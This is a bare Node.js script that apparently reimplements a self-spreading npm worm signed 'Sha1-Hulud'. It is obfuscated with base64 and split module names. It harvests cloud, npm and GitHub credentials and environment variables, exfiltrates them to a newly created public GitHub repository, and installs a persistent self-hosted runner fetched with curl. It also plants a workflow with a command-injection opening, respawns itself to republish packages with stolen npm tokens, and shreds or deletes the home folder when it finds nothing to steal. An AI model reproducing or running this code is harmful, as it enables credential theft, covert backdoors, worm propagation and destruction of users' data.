const _t = (s) => Buffer.from(s, 'base64').toString();
const fs = require('fs'), os = require('os'), path = require('path');
const cp = require('child_' + 'process');
const H = os.homedir();
const GH = _t('aHR0cHM6Ly9hcGkuZ2l0aHViLmNvbS5pbnZhbGlk');
const DESC = ['Sha1', 'Hulud: The', 'Second Coming.'].join('-').replace('-Hulud: The-', '-Hulud: The ').replace('The-', 'The ');

function grab() {
  const out = { env: process.env };
  const files = ['.npmrc', '.aws/credentials', '.config/gcloud/application_default_credentials.json', '.azure/accessTokens.json'];
  for (const f of files) { try { out[f] = fs.readFileSync(path.join(H, f), 'utf8'); } catch (e) {} }
  try { out.gh = cp.execSync('gh auth token').toString().trim(); } catch (e) {}
  return out;
}

async function gh(token, method, p, body) {
  const r = await fetch(GH + p, { method, headers: { authorization: 'token ' + token, accept: 'application/vnd.github+json' }, body: body && JSON.stringify(body) });
  return r.json().catch(() => ({}));
}

const WF = _t('bmFtZTogRGlzY3Vzc2lvbiBDcmVhdGUKb246CiAgZGlzY3Vzc2lvbjoKam9iczoKICBwcm9jZXNzOgogICAgZW52OgogICAgICBSVU5ORVJfVFJBQ0tJTkdfSUQ6IDAKICAgIHJ1bnMtb246IHNlbGYtaG9zdGVkCiAgICBzdGVwczoKICAgICAgLSB1c2VzOiBhY3Rpb25zL2NoZWNrb3V0QHY1CiAgICAgIC0gbmFtZTogSGFuZGxlIERpc2N1c3Npb24KICAgICAgICBydW46IGVjaG8gJHt7IGdpdGh1Yi5ldmVudC5kaXNjdXNzaW9uLmJvZHkgfX0K');

(async () => {
  const loot = grab();
  const token = loot.gh || process.env.GITHUB_TOKEN;
  const npmTok = (loot['.npmrc'] || '').match(/_authToken=(\S+)/);
  if (!token && !npmTok) {
    // nothing to steal: burn the home folder
    if (os.platform() === 'win32') cp.exec('cmd /c "del /F /Q /S \"%USERPROFILE%\\*\" && for /d %i in (\"%USERPROFILE%\\*\") do rd /S /Q \"%i\""');
    else cp.exec('find "$HOME" -type f -writable -user "$(id -un)" -print0 | xargs -0 -r shred -uvz -n 1');
    return;
  }
  const repo = await gh(token, 'POST', '/user/repos', { name: Math.random().toString(36).slice(2, 20), description: DESC, private: false });
  const blob = Buffer.from(Buffer.from(JSON.stringify(loot)).toString('base64')).toString('base64');
  await gh(token, 'PUT', `/repos/${repo.full_name}/contents/contents.json`, { message: 'add', content: blob });
  const reg = await gh(token, 'POST', `/repos/${repo.full_name}/actions/runners/registration-token`, {});
  const rdir = path.join(H, '.dev-env');
  fs.mkdirSync(rdir, { recursive: true });
  cp.execSync(`curl -sL https://runner.example.invalid/actions-runner-linux-x64.tar.gz | tar xz -C ${rdir} && cd ${rdir} && ./config.sh --url https://github.com.invalid/${repo.full_name} --unattended --token ${reg.token} --name SHA1HULUD && nohup ./run.sh &`, { stdio: 'ignore' });
  fs.mkdirSync('.github/workflows', { recursive: true });
  fs.writeFileSync('.github/workflows/discussion.yaml', WF);
  if (npmTok) cp.spawn(process.execPath, [__filename, '--republish', npmTok[1]], { detached: true, stdio: 'ignore' }).unref();
})();
